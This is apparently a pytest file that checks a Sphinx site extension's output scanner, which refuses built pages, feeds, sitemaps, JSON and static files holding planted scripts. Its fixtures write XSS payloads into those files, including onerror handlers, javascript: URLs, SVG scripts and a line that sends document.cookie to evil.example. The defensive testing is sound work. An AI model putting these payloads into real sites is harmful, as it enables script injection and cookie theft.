"""The output check catches a planted script in each kind of output (issue 13, item 2).

A clean site is built once (the check passes, so it is on in every build); then each
test plants what an upstream hole would let through into one written file and runs
the check again: it must fail, naming that file and, for a page built from a source
file, the file and line.
"""

from __future__ import annotations

import json
import os
import shutil
from io import StringIO
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from sphinx.testing.util import SphinxTestApp
from sphinx.util.console import strip_colors

from conference_recaps.discovery.outputs import walk_files
from conference_recaps.security.output import (
    OutputCheckError,
    check_output,
    json_hits,
    json_text_hits,
)

if TYPE_CHECKING:
    from collections.abc import Iterator

PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00"
    b"\x00\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N"
    b"\x00\x00\x00\x00IEND\xaeB`\x82"
)
CATALOGUE = """\
conferences:
  - id: pycon-test-2020
    name: PyCon Test 2020
    start: 2020-05-01
    end: 2020-05-02
speakers:
  - id: ada
    name: Ada Lovelace
talks:
  - id: pycon-test-2020/engines
    conference: pycon-test-2020
    title: Engines
    speakers: [ada]
    date: 2020-05-01
"""
RECAP = """\
---
title: PyCon Test 2020 in review
date: 2020-06-01
authors: [Jane Contributor]
conference: pycon-test-2020
---
# PyCon Test 2020 in review

A paragraph that says alert(1) in words.

![A photo](photo.png)

{download}`Notes <notes.txt>`
"""


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[SphinxTestApp]:
    srcdir = tmp_path_factory.mktemp("output") / "site"
    (srcdir / "recaps").mkdir(parents=True)
    (srcdir / "conf.py").write_text(
        'extensions = ["conference_recaps"]\nhtml_theme = "sphinx_book_theme"\n'
        'exclude_patterns = ["_build"]\n',
        encoding="utf-8",
    )
    (srcdir / "index.md").write_text("# Home\n\n```{toctree}\nrecaps/review\n```\n", "utf-8")
    (srcdir / "talks.yaml").write_text(CATALOGUE, encoding="utf-8")
    (srcdir / "recaps" / "review.md").write_text(RECAP, encoding="utf-8")
    (srcdir / "recaps" / "photo.png").write_bytes(PNG)
    (srcdir / "recaps" / "notes.txt").write_text("Notes.\n", encoding="utf-8")
    app = SphinxTestApp("html", srcdir=srcdir, status=StringIO(), warning=StringIO())
    app.build()  # passes: the check is on, and the clean site has nothing to refuse
    yield app
    app.cleanup()


def _one(outdir: Path, pattern: str) -> Path:
    found = sorted(outdir.glob(pattern))
    assert found, pattern
    return found[0]


def _check(app: SphinxTestApp) -> tuple[str, str]:
    """Run the check again; return its error and the warnings it logged."""
    app.warning.seek(0)
    app.warning.truncate()
    with pytest.raises(OutputCheckError) as raised:
        check_output(app, None)
    warnings = strip_colors(app.warning.getvalue()).replace(f"{app.srcdir}{os.sep}", "")
    return str(raised.value), warnings


def _replace(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, (path, old)
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


PLANTS = {
    # kind: (file pattern, how to plant, what the check must say)
    "html-page": (
        "recaps/review.html",
        lambda p: _replace(p, "</main>", "<img src=x onerror=alert(1)></main>"),
        "an event handler <img onerror='alert(1)'>",
    ),
    "html-script": (
        "index.html",
        lambda p: _replace(p, "</body>", "<script>fetch('/x')</script></body>"),
        "an inline <script> that is not one of the site's",
    ),
    "html-script-src": (
        "index.html",
        lambda p: _replace(p, "</body>", "<script src=https://evil.example/x.js></script></body>"),
        "a <script> loading 'https://evil.example/x.js'",
    ),
    "html-iframe": (
        "talks/pycon-test-2020/engines.html",
        lambda p: _replace(p, "</main>", "<iframe src=https://evil.example/></iframe></main>"),
        "an <iframe> element",
    ),
    "html-meta-refresh": (
        "index.html",
        lambda p: _replace(
            p, "<head>", '<head><meta http-equiv="refresh" content="0;url=https://evil.example">'
        ),
        "a <meta http-equiv=refresh> to 'https://evil.example', outside the site",
    ),
    "html-style-url": (
        "index.html",
        lambda p: _replace(p, "<main", '<main style="background:url(javascript:alert(1))"'),
        "url( or expression( in a style attribute",
    ),
    "html-json-ld": (
        "recaps/review.html",
        lambda p: _replace(
            p,
            "</head>",
            '<script type="application/ld+json">{"url": "javascript:x"}</script></head>',
        ),
        "a script or document URL in the JSON field 'url'",
    ),
    "feed-atom": (
        "feeds/atom.xml",
        lambda p: _replace(
            p,
            "</feed>",
            '<entry><content type="html">&lt;script&gt;alert(1)&lt;/script&gt;</content>'
            "</entry></feed>",
        ),
        "a <script> element",
    ),
    "feed-rss-description": (
        "feeds/rss.xml",
        lambda p: _replace(
            p,
            "</channel>",
            "<item><description>&lt;img src=x onerror=alert(1)&gt;</description></item></channel>",
        ),
        "an event handler <img onerror='alert(1)'>",
    ),
    "sitemap": (
        "sitemap.xml",
        lambda p: _replace(p, "</urlset>", "<url><loc>javascript:alert(1)</loc></url></urlset>"),
        "a script or document URL in <loc>",
    ),
    "xml-stylesheet": (
        "feeds/rss.xml",
        lambda p: _replace(p, "<rss", '<?xml-stylesheet type="text/xsl" href="x.xsl"?><rss'),
        "a processing instruction <?xml-stylesheet>",
    ),
    "json": (
        "pagefind/all/pagefind-entry.json",
        lambda p: p.write_text('{"version": "1", "url": "javascript:alert(1)"}', "utf-8"),
        "a script or document URL in the JSON field 'url'",
    ),
    "generated-js": (
        "_static/documentation_options.js",
        lambda p: _replace(p, "};", "}; fetch('https://evil.example/' + document.cookie);"),
        "documentation_options.js holds more than the options object",
    ),
    "js-outside-script-folders": (
        "recaps/review.html",
        lambda p: (p.parent / "x.js").write_text("alert(1)", "utf-8"),
        "a script file outside the site's script folders",
    ),
    "copied-image": (
        "_images/photo.png",
        lambda p: p.write_text(
            "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "utf-8"
        ),
        "a file that is not a PNG, JPEG, GIF, WebP or AVIF image",
    ),
    "copied-image-svg": (
        "_images/photo.png",
        lambda p: (p.parent / "x.svg").write_text("<svg/>", "utf-8"),
        "an image of type '.svg'",
    ),
    "download": (
        "_downloads/*/notes.txt",
        lambda p: (p.parent / "notes.html").write_text("<script>alert(1)</script>", "utf-8"),
        "a download of type '.html'",
    ),
    "static-svg": (
        "_static/file.png",
        lambda p: (p.parent / "evil.svg").write_text(
            "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "utf-8"
        ),
        "a <script> element",
    ),
}


@pytest.mark.parametrize("kind", PLANTS)
def test_a_planted_script_fails_the_build(site: SphinxTestApp, kind: str) -> None:
    pattern, plant, expected = PLANTS[kind]
    target = _one(site.outdir, pattern)
    backup = {p: p.read_bytes() for p in target.parent.iterdir() if p.is_file()}
    try:
        plant(target)
        error, warnings = _check(site)
    finally:
        for path in list(target.parent.iterdir()):
            if path.is_file() and path not in backup:
                path.unlink()
        for path, data in backup.items():
            path.write_bytes(data)
    assert expected in error
    assert "The site must not be published" in error
    assert expected in warnings
    assert "[recaps.output]" in warnings
    check_output(site, None)  # restored: clean again


def test_a_page_built_from_a_source_names_the_file_and_line(site: SphinxTestApp) -> None:
    page = site.outdir / "recaps" / "review.html"
    original = page.read_bytes()
    try:
        _replace(page, "</main>", "<img src=x onerror='alert(1) in words'></main>")
        _, warnings = _check(site)
    finally:
        page.write_bytes(original)
    # The offending text is on line 9 of the source: a hole upstream let it through.
    assert warnings.startswith("recaps/review.md:9: WARNING: the output check refused "), warnings


def test_the_site_s_own_scripts_and_images_pass(site: SphinxTestApp) -> None:
    assert (site.outdir / "_images" / "photo.png").exists()
    assert list((site.outdir / "_downloads").rglob("notes.txt"))
    check_output(site, None)


def test_only_changed_files_are_checked_again(site: SphinxTestApp) -> None:
    cache = site.doctreedir / "recaps-output-check.html.pickle"
    assert cache.exists()
    shutil.copy(cache, cache.with_suffix(".bak"))
    check_output(site, None)
    assert cache.read_bytes() == cache.with_suffix(".bak").read_bytes()


def test_forked_workers_find_what_one_process_finds(
    site: SphinxTestApp, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A full build's files are checked by ``-j N`` workers: the same hits, in order."""
    from conference_recaps.security import output  # noqa: PLC0415

    page = site.outdir / "recaps" / "review.html"
    original = page.read_bytes()
    try:
        _replace(page, "</main>", "<script>alert(1)</script></main>")
        files = [
            (Path(path), relpath, (0, 0))
            for relpath, path, _, _ in walk_files(site.outdir, hidden=False)
        ]
        own = output.SiteOwn.of(site)
        alone = output._all_hits(files, own, 1)
        monkeypatch.setattr(output, "PARALLEL_THRESHOLD", 1)
        shared = output._all_hits(files, own, 2)
    finally:
        page.write_bytes(original)
    assert shared == alone
    assert [relpath for (_, relpath, _), hits in zip(files, shared, strict=True) if hits] == [
        "recaps/review.html"
    ]


@pytest.mark.parametrize(
    ("document", "found"),
    [
        ('{"url": "javascript:alert(1)"}', 1),
        ('{"talks": [{"video": {"url": " JaVaScRiPt:x"}}, {"url": "https://ok.example"}]}', 1),
        ('{"sameAs": ["https://a.example", ["data:text/html,<b>"]], "name": "javascript:x"}', 1),
        ('{"links": [{"href": "vbscript:x"}], "image": {"url": "javascript:y"}}', 2),
        ('["javascript:x", {"logo": "javascript:z"}]', 1),
        ('{"url": 3, "href": null, "src": true, "@id": "https://ok.example/#event"}', 0),
        ('"javascript:x"', 0),
    ],
)
def test_json_is_checked_while_parsed_as_when_walked(document: str, found: int) -> None:
    """The output check reads a JSON file's URL fields while parsing it (a 29 MB
    catalogue.json): the same findings as walking the parsed data."""
    walked = sorted((hit.what, hit.evidence) for hit in json_hits(json.loads(document)))
    parsed = sorted((hit.what, hit.evidence) for hit in json_text_hits(document))
    assert parsed == walked
    assert len(parsed) == found


def test_a_file_that_is_not_json_is_reported() -> None:
    with pytest.raises(ValueError, match="Expecting"):
        json_text_hits('{"url": ')
